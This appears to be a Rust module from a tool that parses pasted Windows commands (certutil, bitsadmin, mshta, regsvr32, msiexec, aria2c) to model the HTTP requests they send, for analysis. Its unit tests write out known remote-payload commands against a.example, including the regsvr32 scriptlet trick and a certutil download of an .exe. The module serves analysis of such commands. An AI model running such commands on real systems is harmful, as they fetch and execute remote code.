//! Programs that fetch the URLs in their arguments and read nothing else of a request: certutil, bitsadmin, mshta,
//! regsvr32, msiexec, aria2c.

use diagnostics::Findings;

use crate::client::ClientRequest;
use crate::defanged::refanged;
use crate::expansion::Expansion;
use crate::fetch::request_of_url;
use crate::recorded::RecordedRequest;
use crate::shell::Word;
use crate::{codes, command};

/// How a program fetches.
struct Program {
    name: &'static str,
    /// The method and the agent of each request that it sends for a URL. The agents of mshta and regsvr32 are
    /// those of the browser on the machine.
    sends: &'static [(&'static str, Option<&'static str>)],
    /// Options whose value is another thing than a URL to fetch.
    with_other_value: &'static [&'static str],
    /// Options whose value is the agent, the referrer, or a header.
    agent: &'static [&'static str],
    referrer: &'static [&'static str],
    header: &'static [&'static str],
    /// Options that name URLs in a file.
    not_read: &'static [&'static str],
}

const PLAIN: Program = Program {
    name: "",
    sends: &[("GET", None)],
    with_other_value: &[],
    agent: &[],
    referrer: &[],
    header: &[],
    not_read: &[],
};

const PROGRAMS: &[Program] = &[
    // Both are sent, the second where the first is answered.
    Program {
        name: "certutil",
        sends: &[("GET", Some("Microsoft-CryptoAPI/10.0")), ("GET", Some("CertUtil URL Agent"))],
        ..PLAIN
    },
    // BITS asks for the size before it asks for parts.
    Program { name: "bitsadmin", sends: &[("HEAD", Some(BITS)), ("GET", Some(BITS))], ..PLAIN },
    Program { name: "mshta", ..PLAIN },
    Program { name: "regsvr32", ..PLAIN },
    Program { name: "msiexec", sends: &[("GET", Some("Windows Installer"))], ..PLAIN },
    Program {
        name: "aria2c",
        sends: &[("GET", Some("aria2/1.37.0"))],
        with_other_value: &[
            "--all-proxy",
            "--http-proxy",
            "--https-proxy",
            "--ftp-proxy",
            "--bt-tracker",
        ],
        agent: &["-U", "--user-agent"],
        referrer: &["--referer"],
        header: &["--header"],
        not_read: &["-i", "--input-file", "-M", "--metalink-file", "--load-cookies"],
    },
];

/// What Windows' service for downloads in the background calls itself.
pub(crate) const BITS: &str = "Microsoft BITS/7.8";

/// Returns true for the name of one of the programs.
pub(crate) fn is_program(name: &str) -> bool {
    PROGRAMS.iter().any(|program| program.name == name)
}

/// Reads a command of a program of this name, by its words.
pub(crate) fn read(
    name: &str,
    words: &[Word],
    expansion: &Expansion,
    findings: &mut Findings,
) -> Vec<RecordedRequest> {
    let Some(program) = PROGRAMS.iter().find(|program| program.name == name) else {
        return Vec::new();
    };
    let (mut urls, mut agent, mut referrer, mut cookie) = (Vec::new(), None, None, None);
    let mut arguments = words.iter().skip(1);
    while let Some(word) = arguments.next() {
        let (option, attached) = match word.text.split_once('=') {
            Some((option, value)) if option.starts_with("--") => (option, Some(value.to_owned())),
            _ => (word.text.as_str(), None),
        };
        let mut value =
            || attached.clone().or_else(|| arguments.next().map(|word| word.text.clone()));
        let has = |options: &[&str]| options.contains(&option);
        match () {
            () if has(program.agent) => agent = value(),
            () if has(program.referrer) => referrer = value(),
            () if has(program.with_other_value) => drop(value()),
            () if has(program.header) => {
                let header = value().unwrap_or_default();
                let (name, value) = header.split_once(':').unwrap_or_default();
                let value = Some(value.trim().to_owned());
                match name.to_ascii_lowercase().as_str() {
                    "user-agent" => agent = value,
                    "referer" => referrer = value,
                    "cookie" => cookie = value,
                    _ => {}
                }
            }
            () if has(program.not_read) => {
                let message = format!("the file of `{option}` is not read");
                let help = "write the URLs out";
                findings.add(&codes::UNKNOWN_OPTION, word.span, message, help);
            }
            () => urls.extend(url_in(&word.text)),
        }
    }
    if urls.is_empty() {
        command::no_url(name, words, findings);
    }
    let mut found = Vec::new();
    for url in urls.iter().take(crate::limits::MAX_PASTED_REQUESTS) {
        for (method, own) in program.sends {
            let request = ClientRequest {
                method,
                version: "HTTP/1.1",
                user_agent: agent.clone().or(own.map(str::to_owned)),
                referrer: referrer.clone(),
                cookie: cookie.clone(),
                ..ClientRequest::default()
            };
            found.extend(request_of_url(url, request, None, expansion, findings));
        }
    }
    found
}

/// Returns true if a word of a command has a URL.
pub(crate) fn has_url(words: &[Word]) -> bool {
    words.iter().skip(1).any(|word| url_in(&word.text).is_some())
}

/// Returns the URL in a word: all of it, or behind what names it, as in `/i:http://a.example/x.sct` and
/// `vbscript:GetObject("script:http://a.example/x.sct")`.
fn url_in(word: &str) -> Option<String> {
    let scheme_end =
        word.find("://").or_else(|| word.find("[://]")).or_else(|| word.find("[:]//"))?;
    let before = word.get(..scheme_end)?;
    let scheme = before.bytes().rev().take_while(u8::is_ascii_alphabetic).count();
    let (before, _) = before.split_at_checked(scheme_end - scheme)?;
    let is_named = before.is_empty() || before.ends_with([':', '=', '"', '\'', '(']);
    let url = word.get(before.len()..)?;
    let end = url.find(['"', '\'', ')', '<', '>']).unwrap_or(url.len());
    let url = refanged(url.get(..end)?);
    let lower = url.to_ascii_lowercase();
    let is_http = lower.starts_with("http://") || lower.starts_with("https://");
    (is_named && is_http).then(|| url.into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell;

    #[test]
    fn the_urls_of_programs_are_fetched() {
        for (line, expect) in [
            (
                "certutil -urlcache -split -f https://a.example/x.exe x.exe",
                vec![
                    "GET https://a.example/x.exe Microsoft-CryptoAPI/10.0",
                    "GET https://a.example/x.exe CertUtil URL Agent",
                ],
            ),
            (
                "bitsadmin /transfer j /download /priority high http://a.example/x C:/x",
                vec![
                    "HEAD http://a.example/x Microsoft BITS/7.8",
                    "GET http://a.example/x Microsoft BITS/7.8",
                ],
            ),
            ("mshta http://a.example/x.hta", vec!["GET http://a.example/x.hta -"]),
            (
                "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
                vec!["GET http://a.example/x.sct -"],
            ),
            (
                "msiexec /q /i https://a.example/x.msi",
                vec!["GET https://a.example/x.msi Windows Installer"],
            ),
            (
                "aria2c -x 4 -U u --referer=r --all-proxy=http://p.example -o f https://a.example/x",
                vec!["GET https://a.example/x u"],
            ),
            ("aria2c -i urls.txt", vec![]),
            ("certutil -hashfile x", vec![]),
        ] {
            let commands = shell::commands(line).unwrap();
            let words = &commands[0].words;
            let mut findings = Findings::new(&"command".into());
            let found = read(&words[0].text, words, &Expansion::default(), &mut findings);
            let shown: Vec<_> = found
                .iter()
                .map(|request| {
                    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
                    let agent = request.user_agent.as_deref().map_or("-".to_owned(), text);
                    format!("{} {} {agent}", text(&request.method), text(&request.url()))
                })
                .collect();
            assert_eq!(shown, expect, "{line}");
            assert_eq!(
                found.is_empty(),
                findings.into_list().iter().any(diagnostics::Finding::is_error)
            );
        }
    }
}
